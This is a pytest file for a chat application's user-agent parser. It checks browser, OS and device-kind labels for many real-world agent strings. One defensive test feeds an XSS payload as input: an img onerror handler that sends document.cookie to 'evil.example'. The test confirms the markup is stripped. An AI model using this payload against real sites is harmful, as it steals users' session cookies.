"""Devices that agents and members recognise."""

from __future__ import annotations

import pytest

from chat import devices

MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit"
WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15"
ANDROID = "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko)"


@pytest.mark.parametrize(
    ("user_agent", "shown", "kind"),
    [
        (f"{WINDOWS} Chrome/142.0.0.0 Safari/537.36", "Chrome 142 · Windows", "desktop"),
        (f"{WINDOWS} Chrome/142.0.0.0 Safari/537.36 Edg/142.0", "Edge 142 · Windows", "desktop"),
        (f"{WINDOWS} Chrome/142.0.0.0 Safari/537.36 OPR/126.0", "Opera 126 · Windows", "desktop"),
        (f"{MAC}/605.1.15 Version/26.1 Safari/605.1.15", "Safari 26 · macOS", "desktop"),
        (f"{MAC}/537.36 Chrome/142.0.0.0 Safari/537.36", "Chrome 142 · macOS", "desktop"),
        (f"{IPHONE} Version/18.0 Mobile/15E148 Safari/604.1", "Safari 18 · iPhone", "phone"),
        (f"{IPHONE} CriOS/142.0 Mobile/15E148 Safari/604.1", "Chrome 142 · iPhone", "phone"),
        (
            f"{IPHONE} Mobile/15E148 MicroMessenger/8.0.60 NetType/WIFI",
            "WeChat 8 · iPhone",
            "phone",
        ),
        (f"{ANDROID} Chrome/142.0 Mobile Safari/537.36", "Chrome 142 · Android", "phone"),
        (f"{ANDROID} Chrome/142.0 Safari/537.36", "Chrome 142 · Android", "tablet"),
        (f"{ANDROID} Chrome/130.0 Mobile MicroMessenger/8.0", "WeChat 8 · Android", "phone"),
        (
            "Mozilla/5.0 (iPad; CPU OS 18_0 like Mac OS X) Version/18.0 Safari/604.1",
            "Safari 18 · iPad",
            "tablet",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
            "Firefox 140 · Linux",
            "desktop",
        ),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "", "bot"),
        ("curl/8.5.0", "", "bot"),
        ("", "", "desktop"),
    ],
)
def test_a_device_is_recognised(user_agent: str, shown: str, kind: str) -> None:
    device = devices.read(user_agent)
    assert (str(device), device.kind) == (shown, kind)


def test_markup_in_a_user_agent_is_never_repeated() -> None:
    hostile = "\"'><img src=x onerror=fetch('//evil.example/'+document.cookie)> Chrome/<b>1</b>"
    assert str(devices.read(hostile)) == "Chrome"


def test_a_huge_user_agent_is_read_at_its_beginning_only() -> None:
    assert str(devices.read("x" * 1_000_000 + "Chrome/142")) == ""
